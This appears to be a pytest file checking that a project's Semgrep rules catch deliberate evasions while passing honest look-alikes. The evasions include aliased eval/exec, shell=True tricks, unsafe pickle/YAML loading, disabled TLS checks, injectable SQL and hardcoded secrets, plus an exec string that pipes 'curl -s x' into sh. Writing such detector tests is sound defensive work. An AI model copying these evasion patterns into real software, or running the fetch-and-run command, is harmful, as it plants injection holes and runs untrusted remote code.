"""Semgrep rules by meaning: each evasion of issue #31 as its own file, with the rule
that must catch it, and honest look-alikes that must stay quiet. One real Semgrep run
over all of them (the gate's own scan, the built-in rules), then one check per file."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest

from tests.support import require_service
from worker.gates.semgrep import (
    SemgrepMatch,
    _rule_catalogue,
    _scan,
    builtin_rule_files,
    find_semgrep,
)

SHELL = "ribbit.shell-injection.subprocess-shell"
KWARGS = "ribbit.shell-injection.shell-through-kwargs"
ASYNC = "ribbit.shell-injection.async-shell"
ARGV = "ribbit.shell-injection.shell-argv"
EVAL = "ribbit.code-injection.eval-exec"
RUNNER = "ribbit.code-injection.code-runner"
IN_STRING = "ribbit.code-injection.code-in-string"
DYNAMIC = "ribbit.evasion.dynamic-dangerous-attribute"
PICKLE = "ribbit.deserialization.pickle"
YAML = "ribbit.deserialization.yaml-load"
VERIFY = "ribbit.tls.verify-disabled"
CONTEXT = "ribbit.tls.unverified-context"
SQL = "ribbit.sql-injection.formatted-query"
SECRET = "ribbit.hardcoded-credentials.literal-secret"
POSITIONAL = "ribbit.hardcoded-credentials.positional-secret"

# name: (the rule that must fire, the code)
EVASIONS: dict[str, tuple[str, str]] = {
    "async-create-subprocess-shell": (
        ASYNC,
        "import asyncio\n\n\nasync def run(cmd):\n    await asyncio.create_subprocess_shell(cmd)\n",
    ),
    "loop-subprocess-shell": (
        ASYNC,
        "async def run(loop, proto, cmd):\n    await loop.subprocess_shell(proto, cmd)\n",
    ),
    "shell-one": (
        SHELL,
        "import subprocess\n\n\ndef run(cmd):\n    subprocess.run(cmd, shell=1)\n",
    ),
    "shell-truthy-string": (
        SHELL,
        'import subprocess\n\n\ndef run(cmd):\n    subprocess.Popen(cmd, shell="yes")\n',
    ),
    "shell-true-in-a-variable": (
        SHELL,
        "import subprocess\n\nUSE = True\n\n\ndef run(cmd):\n    subprocess.call(cmd, shell=USE)\n",
    ),
    "shell-aliased-module": (
        SHELL,
        "import subprocess as sp\n\n\ndef run(cmd):\n    sp.check_output(cmd, shell=True)\n",
    ),
    "shell-through-kwargs-dict": (
        KWARGS,
        'import subprocess\n\n\ndef run(cmd):\n    opts = {"shell": True, "check": True}\n'
        "    subprocess.run(cmd, **opts)\n",
    ),
    "shell-through-kwargs-dict-call": (
        KWARGS,
        "import subprocess\n\n\ndef run(cmd):\n    opts = dict(shell=1)\n"
        "    subprocess.run(cmd, **opts)\n",
    ),
    "shell-through-kwargs-item": (
        KWARGS,
        'import subprocess\n\n\ndef run(cmd):\n    opts = {}\n    opts["shell"] = True\n'
        "    subprocess.run(cmd, **opts)\n",
    ),
    "sh-dash-c": (
        ARGV,
        'import subprocess\n\n\ndef run(cmd):\n    subprocess.run(["sh", "-c", cmd])\n',
    ),
    "bash-lc-popen": (
        ARGV,
        'import subprocess\n\n\ndef run(cmd):\n    subprocess.Popen(["/bin/bash", "-lc", cmd])\n',
    ),
    "sh-c-argv-variable": (
        ARGV,
        'import subprocess\n\n\ndef run(cmd):\n    argv = ["sh", "-c", "echo " + cmd]\n'
        "    subprocess.check_output(argv)\n",
    ),
    "exec-sh-c": (
        ARGV,
        "import asyncio\n\n\nasync def run(cmd):\n"
        '    await asyncio.create_subprocess_exec("sh", "-c", cmd)\n',
    ),
    "python-dash-c": (
        ARGV,
        "import subprocess\nimport sys\n\n\ndef run(code):\n"
        '    subprocess.run(("python3", "-c", code))\n',
    ),
    "eval-bound-to-a-name": (EVAL, "e = eval\n\n\ndef calc(expr):\n    return e(expr)\n"),
    "exec-bound-to-a-name": (EVAL, "run = exec\n\n\ndef calc(src):\n    run(src)\n"),
    "eval-through-builtins-module-attribute": (
        EVAL,
        "def calc(expr):\n    return __builtins__.eval(expr)\n",
    ),
    "system-through-methodcaller": (
        DYNAMIC,
        "import operator\nimport os\n\n\ndef run(cmd):\n"
        '    operator.methodcaller("system", cmd)(os)\n',
    ),
    "system-imported-as": (
        "ribbit.shell-injection.os-system",
        "from os import system as run_command\n\n\ndef run(cmd):\n    run_command(cmd)\n",
    ),
    "subprocess-run-imported-as": (
        SHELL,
        "from subprocess import run as go\n\n\ndef run(cmd):\n    go(cmd, shell=True)\n",
    ),
    "eval-imported-as": (
        EVAL,
        "from builtins import eval as evaluate\n\n\ndef calc(expr):\n    return evaluate(expr)\n",
    ),
    "eval-through-dict-get": (
        DYNAMIC,
        'import builtins\n\n\ndef calc(expr):\n    return builtins.__dict__.get("eval")(expr)\n',
    ),
    "eval-through-getattr": (
        DYNAMIC,
        'import builtins\n\n\ndef calc(expr):\n    return getattr(builtins, "eval")(expr)\n',
    ),
    "exec-through-vars-get": (
        DYNAMIC,
        'import builtins\n\n\ndef calc(src):\n    vars(builtins).get("exec")(src)\n',
    ),
    "eval-through-builtins-mapping": (
        DYNAMIC,
        'def calc(expr):\n    return __builtins__["eval"](expr)\n',
    ),
    "timeit-runs-a-value": (
        RUNNER,
        "import timeit\n\n\ndef calc(src):\n    timeit.timeit(src, number=1)\n",
    ),
    "timeit-setup-runs-a-value": (
        RUNNER,
        'import timeit\n\n\ndef calc(src):\n    timeit.Timer("pass", setup=src).timeit(1)\n',
    ),
    "code-interpreter-runsource": (
        RUNNER,
        "import code\n\n\ndef calc(src):\n    code.InteractiveInterpreter().runsource(src)\n",
    ),
    "code-console-push": (
        RUNNER,
        "import code\n\n\ndef calc(src):\n    console = code.InteractiveConsole()\n"
        "    console.push(src)\n",
    ),
    "exec-literal-with-system": (
        IN_STRING,
        "def boot():\n    exec(\"import os; os.system('curl -s x | sh')\")\n",
    ),
    "timeit-literal-with-system": (
        IN_STRING,
        "import timeit\n\n\ndef boot():\n"
        '    timeit.timeit("os.system(\'id\')", setup="import os", number=1)\n',
    ),
    "pickle-private-loads": (
        PICKLE,
        "import pickle\n\n\ndef load(blob):\n    return pickle._loads(blob)\n",
    ),
    "pickle-private-unpickler": (
        PICKLE,
        "import io\nimport pickle\n\n\ndef load(blob):\n"
        "    return pickle._Unpickler(io.BytesIO(blob)).load()\n",
    ),
    "pickle-module-alias": (
        PICKLE,
        "import pickle as p\n\n\ndef load(b):\n    return p.loads(b)\n",
    ),
    "pickle-function-alias": (
        PICKLE,
        "from pickle import loads as undump\n\n\ndef load(b):\n    return undump(b)\n",
    ),
    "yaml-loader-by-hand": (
        YAML,
        "import yaml\n\n\ndef load(text):\n    return yaml.Loader(text).get_single_data()\n",
    ),
    "yaml-unsafe-loader-by-hand": (
        YAML,
        "from yaml import UnsafeLoader\n\n\ndef load(text):\n"
        "    return UnsafeLoader(text).get_single_data()\n",
    ),
    "yaml-unsafe-loader-named-safe": (
        YAML,
        "import yaml\nfrom yaml import UnsafeLoader as SafeLoader\n\n\ndef load(text):\n"
        "    return yaml.load(text, Loader=SafeLoader)\n",
    ),
    "yaml-full-load": (YAML, "import yaml\n\n\ndef load(text):\n    return yaml.full_load(text)\n"),
    "verify-zero": (
        VERIFY,
        "import requests\n\n\ndef get(url):\n    return requests.get(url, verify=0)\n",
    ),
    "verify-false-in-a-variable": (
        VERIFY,
        "import requests\n\nCHECK = False\n\n\ndef get(url):\n"
        "    return requests.post(url, verify=CHECK)\n",
    ),
    "session-verify-zero": (
        VERIFY,
        "import requests\n\n\ndef session():\n    s = requests.Session()\n    s.verify = 0\n"
        "    return s\n",
    ),
    "verify-mode-zero": (
        CONTEXT,
        "import ssl\n\n\ndef ctx():\n    c = ssl.create_default_context()\n"
        "    c.check_hostname = False\n    c.verify_mode = ssl.VerifyMode(0)\n    return c\n",
    ),
    "verify-mode-int": (
        CONTEXT,
        "import ssl\n\n\ndef ctx():\n    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
        "    c.verify_mode = 0\n    return c\n",
    ),
    "cert-none-aliased": (
        CONTEXT,
        "import ssl\nfrom ssl import CERT_NONE as RELAXED\n\n\ndef ctx():\n"
        "    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n    c.verify_mode = RELAXED\n"
        "    return c\n",
    ),
    "verify-mode-enum-member": (
        CONTEXT,
        "import ssl\n\nMODE = ssl.VerifyMode.CERT_NONE\n",
    ),
    "default-https-context-replaced": (
        CONTEXT,
        "import ssl\n\nssl._create_default_https_context = ssl._create_unverified_context\n",
    ),
    "urllib3-cert-reqs-none": (
        CONTEXT,
        'import urllib3\n\nPOOL = urllib3.PoolManager(cert_reqs="CERT_NONE")\n',
    ),
    "sql-joined-inline": (
        SQL,
        "def find(cur, name):\n"
        '    cur.execute("".join(["SELECT * FROM users WHERE name = \'", name, "\'"]))\n',
    ),
    "sql-joined-variable": (
        SQL,
        'def drop(cur, ident):\n    q = " ".join(["DELETE FROM users WHERE id =", ident])\n'
        "    cur.execute(q)\n",
    ),
    "sql-template": (
        SQL,
        "import string\n\n\ndef find(cur, name):\n"
        "    cur.execute(string.Template(\"SELECT * FROM t WHERE n = '$n'\").substitute(n=name))\n",
    ),
    "sql-two-variables-added": (
        SQL,
        'def find(cur, where):\n    base = "SELECT * FROM t WHERE "\n    q = base + where\n'
        "    cur.execute(q)\n",
    ),
    "secret-db-pass": (SECRET, 'DB_PASS = "s3cr3t-Pa55word"\n'),
    "secret-camel-pass": (SECRET, 'dbPass = "s3cr3t-Pa55word"\n'),
    "secret-smtp-pw": (SECRET, 'SMTP_PW = "s3cr3t-Pa55word"\n'),
    "secret-login-positional": (
        POSITIONAL,
        'import smtplib\n\n\ndef send():\n    s = smtplib.SMTP_SSL("mail.example.org")\n'
        '    s.login("bot", "s3cr3t-Pa55word")\n',
    ),
    "secret-basic-auth-tuple": (
        POSITIONAL,
        "import requests\n\n\ndef get(url):\n"
        '    return requests.get(url, auth=("bot", "s3cr3t-Pa55word"))\n',
    ),
    "secret-basic-auth-class": (
        POSITIONAL,
        "from requests.auth import HTTPBasicAuth\n\n"
        'AUTH = HTTPBasicAuth("bot", "s3cr3t-Pa55word")\n',
    ),
    "secret-in-a-url": (
        POSITIONAL,
        "import sqlalchemy\n\n"
        'ENGINE = sqlalchemy.create_engine("postgresql://app:s3cr3t-Pa55word@db/app")\n',
    ),
    "secret-in-a-url-without-user": (
        POSITIONAL,
        'CACHE_URL = "redis://:s3cr3t-Pa55word@cache:6379/0"\n',
    ),
}

# Honest code that must not trip any rule.
HONEST: dict[str, str] = {
    "subprocess-argv-list": (
        "import subprocess\n\n\ndef run(path):\n"
        '    subprocess.run(["ls", "-l", path], check=True)\n'
        '    subprocess.run(["git", "status"], shell=False)\n'
        "    subprocess.run(path, shell=0)\n"
    ),
    "asyncio-exec-and-literal-shell": (
        "import asyncio\n\n\nasync def run(path):\n"
        '    await asyncio.create_subprocess_exec("ls", path)\n'
        '    await asyncio.create_subprocess_shell("ls -l")\n'
    ),
    "sh-c-literal-and-python-module": (
        "import subprocess\n\n\ndef run():\n"
        '    subprocess.run(["sh", "-c", "make test"], check=True)\n'
        '    subprocess.run(["python3", "-m", "pytest", "-q"], check=True)\n'
        '    subprocess.run(["grep", "-c", "x", "f.txt"], check=True)\n'
    ),
    "kwargs-without-shell": (
        "import subprocess\n\n\ndef run(cmd):\n"
        '    opts = {"check": True, "shell": False}\n    subprocess.run(cmd, **opts)\n'
    ),
    "safe-yaml": (
        "import yaml\nfrom yaml import SafeLoader\n\n\ndef load(text):\n"
        "    a = yaml.safe_load(text)\n    b = yaml.load(text, Loader=yaml.SafeLoader)\n"
        "    c = yaml.load(text, Loader=SafeLoader)\n"
        "    d = yaml.dump(a, Dumper=yaml.Dumper)\n    return a, b, c, d\n"
    ),
    "json-and-pickle-dumps": (
        "import json\nimport pickle\n\n\ndef save(obj, text):\n"
        "    return pickle.dumps(obj), json.loads(text)\n"
    ),
    "literal-eval-and-harmless-literals": (
        'import ast\nimport timeit\n\n\ndef calc(expr):\n    x = eval("1 + 2")\n'
        '    exec("y = 1")\n    t = timeit.timeit("sum(range(10))", number=100)\n'
        "    u = timeit.timeit(lambda: sum(range(10)), number=5)\n"
        "    return ast.literal_eval(expr), x, t, u\n"
    ),
    "parameterised-sql": (
        "def find(cur, name, ids):\n"
        '    cur.execute("SELECT * FROM users WHERE name = ?", (name,))\n'
        '    cur.execute("SELECT * FROM users WHERE id = %s", [ids[0]])\n'
        '    print(", ".join(ids))\n'
    ),
    "tls-verified": (
        "import ssl\n\nimport requests\n\n\ndef get(url):\n"
        "    c = ssl.create_default_context()\n    c.verify_mode = ssl.CERT_REQUIRED\n"
        '    requests.get(url, verify="/etc/ssl/ca.pem")\n'
        "    requests.get(url, verify=True, timeout=0)\n    return c\n"
    ),
    "credentials-from-the-environment": (
        "import os\n\nimport requests\n\n"
        'DB_PASS = os.environ["DB_PASS"]\n'
        'bypass = "a-long-value-that-is-no-secret"\n'
        'compass_heading = "north-north-west"\n'
        'passenger_name = "Arthur Dent"\n'
        'DB_URL = "postgresql://db.internal/app"\n'
        'CACHE_URL = "redis://localhost:6379/0"\n'
        'WEB_URL = "http://localhost:8080/login?next=a@b"\n'
        'TEMPLATE = "postgresql://user:${DB_PASS}@db/app"\n\n\n'
        "def send(server, user):\n    server.login(user, DB_PASS)\n"
        "    requests.get('https://x', auth=(user, DB_PASS))\n"
    ),
}


@pytest.fixture(scope="module")
def matches() -> dict[str, list[SemgrepMatch]]:
    binary = find_semgrep()
    require_service(binary is not None, "semgrep")
    assert binary is not None
    rules = builtin_rule_files()
    with tempfile.TemporaryDirectory() as tmp:
        tree = Path(tmp) / "tree"
        (tree / "app").mkdir(parents=True)
        files = {f"app/{n.replace('-', '_')}.py": c for n, (_, c) in EVASIONS.items()}
        files |= {f"app/honest_{n.replace('-', '_')}.py": c for n, c in HONEST.items()}
        for rel, code in files.items():
            (tree / rel).write_text(code)
        home = Path(tmp) / "home"
        home.mkdir()
        found = _scan(binary, tree, sorted(files), rules, _rule_catalogue(rules), home, 300)
    by_file: dict[str, list[SemgrepMatch]] = {}
    for match in found:
        by_file.setdefault(match.path, []).append(match)
    return by_file


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_evasion_is_caught_by_its_rule(matches: dict[str, list[SemgrepMatch]], name: str) -> None:
    rule, code = EVASIONS[name]
    got = {m.rule for m in matches.get(f"app/{name.replace('-', '_')}.py", [])}
    assert rule in got, f"{name}: {sorted(got)}\n{code}"


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_code_stays_quiet(matches: dict[str, list[SemgrepMatch]], name: str) -> None:
    got = [
        (m.rule, m.line, m.code) for m in matches.get(f"app/honest_{name.replace('-', '_')}.py", [])
    ]
    assert got == [], f"{name}: {got}"
